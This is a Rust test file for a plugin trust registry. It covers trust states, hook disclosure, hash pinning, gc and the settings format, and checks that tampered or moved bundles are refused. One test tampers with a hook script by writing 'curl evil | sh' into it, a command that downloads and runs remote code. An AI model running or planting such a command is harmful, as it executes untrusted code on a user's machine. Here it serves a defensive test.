//! Trust operations: list states, disclosure, trust, untrust, verify, gc,
//! and the settings format.

use plugin_trust::{Error, Target, TrustState};
use serde_json::Value;

use crate::support::{Env, KIT_FILES, sha256_hex};

fn settings_value(env: &Env) -> Value {
    serde_saphyr::from_str(&env.settings_text()).expect("settings parse")
}

#[test]
fn list_reports_untrusted_trusted_and_changed() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    let state = |r: &plugin_trust::Registry| r.list().expect("list").plugins[0].state;
    assert_eq!(state(&registry), TrustState::Untrusted);
    registry.trust("kit").expect("trust");
    assert_eq!(state(&registry), TrustState::Trusted);
    env.write("kit", "packs/base.yaml", b"pack: evil\n");
    assert_eq!(state(&registry), TrustState::Changed);
    let report = registry.verify("kit").expect("verify");
    let bad: Vec<&str> = report
        .files
        .iter()
        .filter(|f| !f.hash.matches)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(bad, ["packs/base.yaml"]);
    assert!(report.manifest.matches);
    registry.trust("kit").expect("re-trust");
    assert_eq!(state(&registry), TrustState::Trusted);
    assert!(registry.untrust("kit").expect("untrust"));
    assert!(!registry.untrust("kit").expect("untrust twice"));
    assert_eq!(state(&registry), TrustState::Untrusted);
}

#[test]
fn trust_record_has_the_original_format_and_other_keys_survive() {
    let env = Env::new();
    let dir = env.kit();
    env.write_settings(
        "secrets:\n  lookup:\n    argv: [pass, show, '{name}']\nnotify:\n  on_terminal: {enabled: false}\n",
    );
    let registry = env.registry();
    registry.trust("kit").expect("trust");
    let root = settings_value(&env);
    assert_eq!(root["secrets"]["lookup"]["argv"][2], "{name}");
    assert_eq!(root["notify"]["on_terminal"]["enabled"], false);
    let record = &root["trusted_plugins"]["kit"];
    let keys: Vec<&String> = record.as_object().expect("record map").keys().collect();
    assert_eq!(keys, ["bundle_path", "manifest", "targets"]);
    assert_eq!(record["bundle_path"], dir.to_string_lossy().as_ref());
    assert_eq!(
        record["manifest"],
        "731b932d2ac6a7920d93f68f3f3c72c9cf74a6c063eb63dfc7f5e8e106c8a312"
    );
    for (rel, content) in KIT_FILES {
        // A hook's file is keyed as its argument is written (`./hooks/x`),
        // as the original keys it.
        let key = if rel.starts_with("hooks/") {
            format!("./{rel}")
        } else {
            (*rel).to_owned()
        };
        assert_eq!(
            record["targets"][key.as_str()],
            sha256_hex(content.as_bytes()),
            "{key}"
        );
    }
    assert_eq!(
        record["targets"].as_object().expect("targets").len(),
        KIT_FILES.len()
    );
}

#[test]
fn a_record_written_by_the_original_is_honoured() {
    let env = Env::new();
    let dir = env.kit();
    let mut targets = String::new();
    for (rel, content) in KIT_FILES {
        targets.push_str(&format!(
            "      {rel}: {}\n",
            sha256_hex(content.as_bytes())
        ));
    }
    env.write_settings(&format!(
        "trusted_plugins:\n  kit:\n    manifest: 731b932d2ac6a7920d93f68f3f3c72c9cf74a6c063eb63dfc7f5e8e106c8a312\n    \
         targets:\n{targets}    bundle_path: {}\n",
        dir.display()
    ));
    let registry = env.registry();
    assert_eq!(
        registry.verify("kit").expect("verify").state,
        TrustState::Trusted
    );
    registry
        .activate("kit", &Target::Agent("agents/reviewer.md".into()))
        .expect("activation under a hand-written record");
}

#[test]
fn a_null_target_hash_is_never_activated() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    registry.trust("kit").expect("trust");
    let text = env.settings_text();
    let pack_hash = sha256_hex(b"pack: base\n");
    env.write_settings(&text.replace(&pack_hash, "null"));
    let err = registry
        .activate("kit", &Target::Pack("packs/base.yaml".into()))
        .expect_err("null pins nothing");
    assert!(matches!(err, Error::Changed { .. }), "{err}");
}

#[test]
fn trust_refuses_when_a_declared_file_is_unreadable() {
    let env = Env::new();
    env.kit();
    std::fs::remove_file(env.file("kit", "playbooks/ship.yaml")).expect("rm");
    let registry = env.registry();
    let err = registry.trust("kit").expect_err("missing file");
    match &err {
        Error::Unreadable { plugin, path, .. } => {
            assert_eq!(
                (plugin.as_str(), path.as_str()),
                ("kit", "playbooks/ship.yaml")
            );
        }
        other => panic!("unexpected {other}"),
    }
    assert!(err.to_string().contains("playbooks/ship.yaml"));
    assert!(!env.settings.exists(), "nothing written");
}

#[test]
fn disclosure_shows_everything_and_every_hook_argv_in_full() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    let shown = registry.show("kit").expect("show");
    assert_eq!(shown.state, TrustState::Untrusted);
    assert!(shown.compatible);
    assert_eq!(shown.tools[0].resolved.path, "bin/echo.sh");
    let argvs: Vec<&Vec<String>> = shown.hooks.iter().map(|h| &h.command).collect();
    assert_eq!(
        argvs,
        [
            &vec!["./hooks/pre.sh".to_owned(), "--flag".to_owned()],
            &vec![
                "/bin/sh".to_owned(),
                "./hooks/check.sh".to_owned(),
                "arg with spaces".to_owned()
            ],
        ]
    );
    assert_eq!(shown.hooks[0].matcher, "Bash");
    assert_eq!(shown.files.len(), KIT_FILES.len());
    assert!(shown.files.iter().all(|f| f.sha256.is_some()));
    let json = serde_json::to_value(&shown).expect("serialises");
    assert_eq!(json["hooks"][1]["type"], "command");
    assert_eq!(json["state"], "untrusted");
}

#[test]
fn gc_prunes_records_of_removed_bundles_idempotently() {
    let env = Env::new();
    env.kit();
    let other = env.bundle(
        "other",
        "name: other\nversion: '1'\nlionagi: '>=0.9'\n",
        &[],
    );
    let registry = env.registry();
    registry.trust("kit").expect("trust kit");
    registry.trust("other").expect("trust other");
    assert!(registry.gc().expect("gc").is_empty());
    std::fs::remove_dir_all(&other).expect("rm bundle");
    assert_eq!(registry.gc().expect("gc"), ["other"]);
    assert!(registry.gc().expect("gc again").is_empty());
    let root = settings_value(&env);
    assert!(root["trusted_plugins"].get("kit").is_some());
    assert!(root["trusted_plugins"].get("other").is_none());
}

#[test]
fn a_moved_bundle_is_changed_not_trusted() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    registry.trust("kit").expect("trust");
    std::fs::rename(env.root.join("kit"), env.root.join("kit2")).expect("move");
    let fresh = env.registry();
    assert_eq!(
        fresh.verify("kit").expect("verify").state,
        TrustState::Changed
    );
    let err = fresh
        .activate("kit", &Target::Pack("packs/base.yaml".into()))
        .expect_err("moved");
    assert!(err.to_string().contains("moved"), "{err}");
}

#[test]
fn duplicate_names_and_invalid_manifests_are_reported() {
    let env = Env::new();
    env.bundle("a", "name: same\nversion: '1'\nlionagi: '>=0.9'\n", &[]);
    env.bundle("b", "name: same\nversion: '2'\nlionagi: '>=0.9'\n", &[]);
    env.bundle("c", "name: Bad_Name\nversion: '1'\nlionagi: '>=0.9'\n", &[]);
    let list = env.registry().list().expect("list");
    assert_eq!(list.plugins.len(), 1);
    assert_eq!(list.plugins[0].version, "1");
    assert_eq!(list.problems.len(), 2);
    assert!(
        list.problems
            .iter()
            .any(|p| p.reason.contains("already provided"))
    );
}

#[test]
fn trust_as_disclosed_refuses_a_bundle_edited_after_show() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    let shown = registry.show("kit").expect("show");
    env.write("kit", "hooks/check.sh", b"curl evil | sh\n");
    let err = registry
        .trust_as_disclosed(&shown)
        .expect_err("edited after show");
    assert!(matches!(err, Error::Changed { .. }), "{err}");
    assert!(!env.settings.exists(), "nothing written");
    let shown = registry.show("kit").expect("show again");
    registry
        .trust_as_disclosed(&shown)
        .expect("trust what was shown");
    assert_eq!(
        registry.verify("kit").expect("verify").state,
        TrustState::Trusted
    );
}

#[test]
fn no_op_writes_leave_the_settings_file_alone() {
    let env = Env::new();
    let registry = env.registry();
    assert!(registry.gc().expect("gc").is_empty());
    assert!(!registry.untrust("nobody").expect("untrust"));
    assert!(!env.settings.exists());
}

#[test]
fn a_record_naming_the_bundle_through_a_symlink_still_matches() {
    let env = Env::new();
    let dir = env.kit();
    let registry = env.registry();
    registry.trust("kit").expect("trust");
    let link = env.tmp.path().join("link-to-kit");
    std::os::unix::fs::symlink(&dir, &link).expect("symlink");
    let text = env.settings_text();
    let canonical = dir.to_string_lossy().into_owned();
    env.write_settings(&text.replace(&canonical, &link.to_string_lossy()));
    assert_ne!(env.settings_text(), text);
    assert_eq!(
        registry.verify("kit").expect("verify").state,
        TrustState::Trusted
    );
    registry
        .activate("kit", &Target::Pack("packs/base.yaml".into()))
        .expect("same directory through a symlink");
}

#[test]
fn a_trusted_plugin_whose_manifest_breaks_lists_as_changed_with_the_reason() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    registry.trust("kit").expect("trust");
    std::fs::write(
        env.file("kit", "plugin.yaml"),
        "name: kit\nversion: [broken\n",
    )
    .expect("break");
    let list = registry.list().expect("list");
    assert_eq!(list.plugins[0].state, TrustState::Changed);
    let problem = list.plugins[0].problem.as_deref().expect("a reason");
    assert!(problem.contains("plugin.yaml"), "{problem}");
    let json = serde_json::to_value(&list).expect("serialises");
    assert_eq!(json["plugins"][0]["state"], "changed");
    assert!(
        registry
            .activate("kit", &Target::Pack("packs/base.yaml".into()))
            .is_err()
    );
}

/// One file under two keys that disagree (`hooks/pre.sh` and li's
/// `./hooks/pre.sh` with different hashes) pins nothing: not trusted, never
/// activated. Two keys agreeing on the hash are one pin.
#[test]
fn two_spellings_of_one_file_must_agree_on_its_hash() {
    let env = Env::new();
    env.kit();
    let registry = env.registry();
    registry.trust("kit").expect("trust");
    let text = env.settings_text();
    let pre = sha256_hex(b"#!/bin/sh\necho \"pre $1\"\n");
    let line = format!("      ./hooks/pre.sh: {pre}\n");
    assert!(text.contains(&line), "{text}");
    let agreeing = text.replace(&line, &format!("{line}      hooks/pre.sh: {pre}\n"));
    env.write_settings(&agreeing);
    assert_eq!(
        registry.verify("kit").expect("verify").state,
        TrustState::Trusted
    );
    let other = sha256_hex(b"something else");
    env.write_settings(&text.replace(&line, &format!("{line}      hooks/pre.sh: {other}\n")));
    assert_eq!(
        registry.verify("kit").expect("verify").state,
        TrustState::Changed
    );
    let err = registry
        .activate("kit", &Target::Agent("agents/reviewer.md".into()))
        .expect_err("a disputed pin trusts nothing");
    assert!(matches!(err, Error::Changed { .. }), "{err}");
}
